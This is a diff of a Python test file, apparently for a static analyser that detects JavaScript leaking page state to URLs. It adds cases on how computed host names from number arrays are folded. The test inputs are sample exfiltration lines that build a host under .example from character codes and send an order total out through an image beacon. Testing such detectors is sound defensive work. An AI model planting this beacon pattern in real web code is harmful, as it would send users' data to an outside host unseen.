@@ -258,6 +258,16 @@ def test_a_callback_that_reads_what_is_unknown_leaves_the_host_unknown():
                 "new Image().src = 'https://' + h + '.example/?' + flowUi.get('order.total');")
         flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
         assert flows and flows[0][2] == [], (body, flows)  # not '104', the run before the unknown
+    # Elements whose type the fold does not keep (numbers through reverse, push, a spread array) are
+    # not taken for text: JavaScript gives 105 + 1 = 106, not '1051'.
+    for receiver in ("[104, 105].reverse()", "[...[104, 105]]", "(() => { const a = [104]; a.push(105); return a; })()"):
+        code = (f"const h = {receiver}.map(c => c + 1).join('');"
+                "new Image().src = 'https://x' + h + '.example/?' + flowUi.get('order.total');")
+        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
+        assert flows and flows[0][2] in ([], ["x106105.example"]), (receiver, flows)
+    code = ("const a = [104]; a.push(105); const h = a.map(c => c + 1).join('');"
+            "new Image().src = 'https://x' + h + '.example/?' + flowUi.get('order.total');")
+    assert [f[2] for f in found(code) if f[0] == "exfil.state-to-url"] == [[]]
     # Promises, a destructured or defaulted parameter: not followed.
     for callback in ("async c => String.fromCharCode(c)", "async function (c) { return String.fromCharCode(c); }",
                      "([c]) => c", "(c = 1) => String.fromCharCode(c)"):
